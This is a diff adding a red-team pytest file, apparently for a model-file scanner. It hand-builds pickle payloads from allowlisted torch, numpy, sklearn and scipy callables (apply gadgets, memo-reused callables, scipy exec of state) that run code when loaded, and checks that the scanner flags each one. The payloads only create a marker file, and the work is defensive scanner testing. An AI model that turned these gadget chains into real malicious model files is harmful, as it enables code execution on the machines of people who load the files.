@@ -1,0 +1,385 @@
+"""Red team: pickles built only from allowlisted callables whose load still runs code.
+
+Each sample is a real attack: loading it with plain `pickle.load` (what `joblib.load` and
+`torch.load(weights_only=False)` do with these opcodes) creates a marker file. The payload is
+checked for real in a subprocess whose working directory is a fresh temp folder (the only
+place the marker can appear); the scanner itself never loads anything. Every sample must
+draw a high or critical finding from `bastion scan-model`, which exits non-zero on them.
+
+Techniques (see docs/model-scan.md, "Red team"):
+
+- loader-as-value: `torch.storage._load_from_bytes` (allowed, because plain-pickled
+  storages name it) handed to an apply gadget instead of being called by REDUCE, so the
+  nested pickle was neither analysed nor reported;
+- memo-reused deferred callable: `_ufunc_reconstruct` called once benignly (which cleared
+  its "decided when called" check), then fetched again from the memo and planted as an
+  instance's `__new__`, so `copyreg._reconstructor` imports `os.mkdir` and `numpy.transpose`
+  calls it through the instance's `transpose` attribute;
+- apply gadgets: `numpy.random._pickle.__generator_ctor(arg, f)` calls `f(arg)`,
+  `copyreg._reconstructor`/`__newobj__`/sklearn `newObj` call `__new__`/`__init__` looked up
+  on what may be an instance;
+- scipy `rv_generic.__setstate__` exec()s `_parse_arg_template` from the pickled state.
+"""
+
+from __future__ import annotations
+
+import os
+import pickle
+import struct
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from bastion.core.types import Severity
+from bastion.model.scan import scan_bytes
+
+MARKER = "bastion_redteam_marker"
+
+_LOADER = (
+    "import pickle, sys\n"
+    "try:\n"
+    "    pickle.load(open(sys.argv[1], 'rb'))\n"
+    "except Exception as exc:\n"
+    "    print(type(exc).__name__, exc)\n"
+)
+
+
+# ---------------------------------------------------------------------- opcode builders
+def g(module: str, name: str) -> bytes:
+    """GLOBAL: the loader imports `module` and fetches `name`."""
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def u(text: str) -> bytes:
+    """BINUNICODE."""
+    raw = text.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def by(raw: bytes) -> bytes:
+    """BINBYTES (protocol 3+)."""
+    return b"B" + struct.pack("<I", len(raw)) + raw
+
+
+def put(i: int) -> bytes:
+    return b"q" + bytes([i])
+
+
+def get(i: int) -> bytes:
+    return b"h" + bytes([i])
+
+
+def p4(body: bytes) -> bytes:
+    return b"\x80\x04" + body + b"."
+
+
+def call(func: bytes, *args: bytes) -> bytes:
+    """func(*args) through MARK ... TUPLE REDUCE."""
+    return func + b"(" + b"".join(args) + b"tR"
+
+
+def instance_with(cls_module: str, cls_name: str, state: dict[str, bytes]) -> bytes:
+    """An instance of an allowed class (no constructor run) whose __dict__ BUILD sets to `state`."""
+    items = b"".join(u(k) + v for k, v in state.items())
+    obj = call(g("copyreg", "_reconstructor"), g(cls_module, cls_name), g("builtins", "object"), b"N")
+    return obj + b"}(" + items + b"ub"
+
+
+# ---------------------------------------------------------------------- samples
+# The nested payload: open(MARKER, 'w') creates the marker (protocol 0, runs while torch.load reads
+# what it takes for the legacy magic number).
+_INNER = b"cbuiltins\nopen\n(V" + MARKER.encode() + b"\nVw\ntR."
+
+
+def loader_via_rebuild_from_type() -> bytes:
+    """`_rebuild_from_type_v2(func, new_type, args, state)` runs `func(*args)`."""
+    return p4(
+        call(
+            g("torch._tensor", "_rebuild_from_type_v2"),
+            g("torch.storage", "_load_from_bytes"),
+            g("builtins", "int"),
+            b"(" + by(_INNER) + b"t",
+            b"N",
+        )
+    )
+
+
+def loader_via_generator_ctor() -> bytes:
+    """NumPy's `__generator_ctor(name, ctor)` runs `ctor(name)` (its legacy pickle path)."""
+    return p4(
+        call(
+            g("numpy.random._pickle", "__generator_ctor"),
+            by(_INNER),
+            g("torch.storage", "_load_from_bytes"),
+        )
+    )
+
+
+def memo_reused_ufunc_reconstruct() -> bytes:
+    """`_ufunc_reconstruct` is decided when called; a second, memo-fetched reference was not.
+
+    1. `_ufunc_reconstruct('numpy', 'log1p')` (benign, the way ufuncs pickle), the callable
+       memoized as 0;
+    2. X: an allowed sklearn estimator whose __dict__ has `__new__` = memo 0 and `__init__` = slice;
+    3. `copyreg._reconstructor('os', X, 'mkdir')` runs `X.__new__('os', 'mkdir')`, i.e. returns
+       `os.mkdir`, then the harmless `X.__init__(os.mkdir, 'mkdir')` (slice);
+    4. Y: an estimator whose __dict__ has `transpose` = os.mkdir;
+    5. `numpy.transpose(Y, MARKER)` calls `Y.transpose(MARKER)`: os.mkdir(MARKER).
+    """
+    est = ("sklearn.linear_model._base", "LinearRegression")
+    body = (
+        g("numpy._core", "_ufunc_reconstruct")
+        + put(0)
+        + b"("
+        + u("numpy")
+        + u("log1p")
+        + b"tR0"
+        + instance_with(*est, {"__new__": get(0), "__init__": g("builtins", "slice")})
+        + put(1)
+        + b"0"
+        + call(g("copyreg", "_reconstructor"), u("os"), get(1), u("mkdir"))
+        + put(2)
+        + b"0"
+        + instance_with(*est, {"transpose": get(2)})
+        + put(3)
+        + b"0"
+        + call(g("numpy", "transpose"), get(3), u(MARKER))
+    )
+    return p4(body)
+
+
+def memo_reused_getattr() -> bytes:
+    """The same with `builtins.getattr` (also decided when called) reused from the memo.
+
+    A listed getattr (`getattr(zoneinfo.ZoneInfo, '_unpickle')`) clears the check; X.__new__ is then
+    the memo-fetched getattr, so `copyreg._reconstructor(pathlib.Path, X, 'touch')` returns
+    `Path.touch`, planted as Y.transpose: `numpy.transpose(Y, Path(MARKER))` touches the marker.
+    """
+    est = ("sklearn.linear_model._base", "LinearRegression")
+    body = (
+        g("builtins", "getattr")
+        + put(0)
+        + b"("
+        + g("zoneinfo", "ZoneInfo")
+        + u("_unpickle")
+        + b"tR0"
+        + instance_with(*est, {"__new__": get(0), "__init__": g("builtins", "slice")})
+        + put(1)
+        + b"0"
+        + call(g("copyreg", "_reconstructor"), g("pathlib", "Path"), get(1), u("touch"))
+        + put(2)
+        + b"0"
+        + instance_with(*est, {"transpose": get(2)})
+        + put(3)
+        + b"0"
+        + call(g("numpy", "transpose"), get(3), call(g("pathlib", "Path"), u(MARKER)))
+    )
+    return p4(body)
+
+
+def newobj_instance_hook() -> bytes:
+    """`copyreg.__newobj__(X, *args)` runs `X.__new__(X, *args)`, looked up on an instance's __dict__.
+
+    X.__new__ is `__generator_ctor`, so `__generator_ctor(X, payload)`... takes (name, ctor): ctor is
+    called with the name, so plant the loader as `__new__` of X and pass the payload: the loader gets
+    X, not the bytes. Instead `__newobj__(X, payload)` with X.__new__ = `numpy.transpose` calls
+    `numpy.transpose(X, payload)` -> `X.transpose(payload)` -> `_load_from_bytes(payload)`.
+    """
+    est = ("sklearn.linear_model._base", "LinearRegression")
+    x = instance_with(*est, {"__new__": g("numpy", "transpose"), "transpose": g("torch.storage", "_load_from_bytes")})
+    return p4(call(g("copyreg", "__newobj__"), x, by(_INNER)))
+
+
+def scipy_parse_arg_template() -> bytes:
+    """`rv_generic.__setstate__` exec()s `_parse_arg_template` from the state: a real scipy pickle, edited."""
+    scipy_stats = pytest.importorskip("scipy.stats")
+    dist = scipy_stats.norm.__class__()  # a fresh norm_gen instance, pickled by scipy itself
+    dist._parse_arg_template = f"open({MARKER!r}, 'w').close()\n" + dist._parse_arg_template
+    return pickle.dumps(dist, protocol=4)
+
+
+SAMPLES = {
+    "loader-via-rebuild-from-type": loader_via_rebuild_from_type,
+    "loader-via-generator-ctor": loader_via_generator_ctor,
+    "memo-reused-ufunc-reconstruct": memo_reused_ufunc_reconstruct,
+    "memo-reused-getattr": memo_reused_getattr,
+    "newobj-instance-hook": newobj_instance_hook,
+    "scipy-parse-arg-template": scipy_parse_arg_template,
+}
+
+
+def payload_runs(blob: bytes) -> bool:
+    """Load `blob` with plain pickle.load in a subprocess in a fresh temp folder; did the marker appear?"""
+    with tempfile.TemporaryDirectory(prefix="bastion-redteam-") as tmp:
+        box = Path(tmp)
+        (box / "sample.pkl").write_bytes(blob)
+        env = {**os.environ, "HOME": tmp, "TMPDIR": tmp, "PYTHONDONTWRITEBYTECODE": "1"}
+        subprocess.run(
+            [sys.executable, "-c", _LOADER, "sample.pkl"],
+            cwd=tmp,
+            env=env,
+            timeout=120,
+            capture_output=True,
+            check=False,
+        )
+        return (box / MARKER).exists()
+
+
+def _worst(blob: bytes) -> Severity | None:
+    return max((f.severity for f in scan_bytes(blob, "redteam.pkl")), default=None)
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_redteam_sample_is_flagged(name: str) -> None:
+    blob = SAMPLES[name]()
+    worst = _worst(blob)
+    assert worst is not None and worst >= Severity.HIGH, (name, scan_bytes(blob, "redteam.pkl"))
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES))
+def test_redteam_payload_really_runs(name: str) -> None:
+    pytest.importorskip("torch")
+    pytest.importorskip("sklearn")
+    if name == "memo-reused-ufunc-reconstruct":
+        import numpy._core
+
+        if not hasattr(numpy._core, "_ufunc_reconstruct"):
+            pytest.skip("NumPy 2 dropped _ufunc_reconstruct (ufuncs pickle by name); NumPy 1.x loads it")
+    assert payload_runs(SAMPLES[name]()), f"{name}: the payload did not take effect under pickle.load"
+
+
+def test_cli_exits_nonzero_on_every_sample(tmp_path: Path) -> None:
+    import typer
+
+    from bastion.cli import scan_model
+
+    app = typer.Typer()
+
+    @app.callback()
+    def _root() -> None:
+        pass
+
+    scan_model.register(app)
+    for name, build in SAMPLES.items():
+        path = tmp_path / f"{name}.pkl"
+        path.write_bytes(build())
+        result = CliRunner().invoke(app, ["scan-model", str(path), "--json"])
+        assert result.exit_code != 0, (name, result.output)
+
+
+# ---------------------------------------------------------------------- each fix on its own
+def _rules(blob: bytes) -> dict[str, Severity]:
+    return {f.rule_id: f.severity for f in scan_bytes(blob, "redteam.pkl") if f.severity >= Severity.HIGH}
+
+
+def test_memo_reused_getattr_passed_as_a_value_is_flagged() -> None:
+    # getattr called once as enums pickle (cleared), then its memo copy only stored in a list
+    blob = p4(
+        g("builtins", "getattr") + put(0) + call(b"", g("zoneinfo", "ZoneInfo"), u("_unpickle")) + b"0]" + get(0) + b"a"
+    )
+    assert "model.pickle.dangerous-callable" in _rules(blob)
+
+
+def test_memoized_getattr_called_on_every_reference_stays_clean() -> None:
+    # the way pickle writes several enum members: one GLOBAL, then BINGET + REDUCE per member
+    blob = p4(
+        g("builtins", "getattr")
+        + put(0)
+        + call(b"", g("zoneinfo", "ZoneInfo"), u("_unpickle"))
+        + b"0"
+        + call(get(0), g("zoneinfo", "ZoneInfo"), u("_unpickle"))
+        + b"0"
+        + call(get(0), g("zoneinfo", "ZoneInfo"), u("_unpickle"))
+    )
+    assert not _rules(blob)
+
+
+def test_loader_stored_as_a_value_is_flagged() -> None:
+    blob = p4(call(g("collections", "defaultdict"), g("torch.storage", "_load_from_bytes")))
+    assert _rules(blob).get("model.pickle.dangerous-callable") is Severity.CRITICAL
+
+
+def test_loader_called_directly_is_analysed_not_double_reported() -> None:
+    blob = p4(call(g("torch.storage", "_load_from_bytes"), by(b"\x80\x02K\x01.")))
+    found = [f for f in scan_bytes(blob, "r.pkl") if f.rule_id == "model.pickle.dangerous-callable"]
+    assert not found
+
+
+def test_apply_gadget_with_a_computed_callable_is_flagged() -> None:
+    vec = call(g("numpy", "vectorize"), g("numpy", "clip"))
+    blob = p4(call(g("torch._tensor", "_rebuild_from_type_v2"), vec, g("builtins", "int"), b")", b"N"))
+    assert "model.pickle.unresolved-callable" in _rules(blob)
+
+
+def test_apply_gadget_inner_call_is_judged_like_reduce() -> None:
+    blob = p4(
+        call(
+            g("torch._tensor", "_rebuild_from_type_v2"),
+            g("builtins", "getattr"),
+            g("builtins", "int"),
+            b"(" + g("pathlib", "Path") + u("write_text") + b"t",
+            b"N",
+        )
+    )
+    assert "model.pickle.unknown-callable" in _rules(blob) or "model.pickle.dangerous-callable" in _rules(blob)
+
+
+def test_copyreg_reconstructor_on_an_instance_is_flagged() -> None:
+    inst = instance_with("sklearn.linear_model._base", "LinearRegression", {})
+    blob = p4(call(g("copyreg", "_reconstructor"), g("builtins", "object"), inst, b"N"))
+    assert "model.pickle.unresolved-callable" in _rules(blob)
+
+
+def test_scipy_state_as_pairs_is_flagged() -> None:
+    # __dict__.update also takes a list of pairs: a state the analyser cannot read as a dict
+    blob = p4(
+        g("scipy.stats._continuous_distns", "norm_gen")
+        + b")\x81"
+        + b"](("
+        + u("_parse_arg_template")
+        + u("open('x','w')")
+        + b"tab"
+    )
+    assert _rules(blob)
+
+
+def test_every_scipy_distribution_pickles_clean() -> None:
+    stats = pytest.importorskip("scipy.stats")
+    from bastion.model._scan._pickle.policy import RV_GENERIC
+
+    dists = [
+        d
+        for d in (getattr(stats, n) for n in dir(stats))
+        if isinstance(d, stats.rv_continuous | stats.rv_discrete)
+        and f"{type(d).__module__}.{type(d).__qualname__}" in RV_GENERIC  # levy_stable is not listed
+    ]
+    assert len(dists) > 100
+    for dist in dists:
+        blob = pickle.dumps(dist, protocol=4)
+        assert not _rules(blob), (dist.name, scan_bytes(blob, "d.pkl"))
+        try:
+            frozen = pickle.dumps(dist(*([0.5] * (dist.numargs or 0))), protocol=2)
+        except Exception:  # a few distributions reject these shape values; the unfrozen pickle was checked
+            continue
+        assert not _rules(frozen), (dist.name, scan_bytes(frozen, "d.pkl"))
+
+
+def test_rv_generic_table_is_complete() -> None:
+    stats = pytest.importorskip("scipy.stats")
+    import importlib
+
+    from bastion.model._scan._pickle.allowlist import ALLOWED
+    from bastion.model._scan._pickle.policy import RV_GENERIC
+
+    rv_generic = stats._distn_infrastructure.rv_generic
+    for name in ALLOWED:
+        module, _, attr = name.rpartition(".")
+        if not module.startswith("scipy."):
+            continue
+        obj = getattr(importlib.import_module(module), attr, None)
+        if isinstance(obj, type) and issubclass(obj, rv_generic):
+            assert name in RV_GENERIC, name
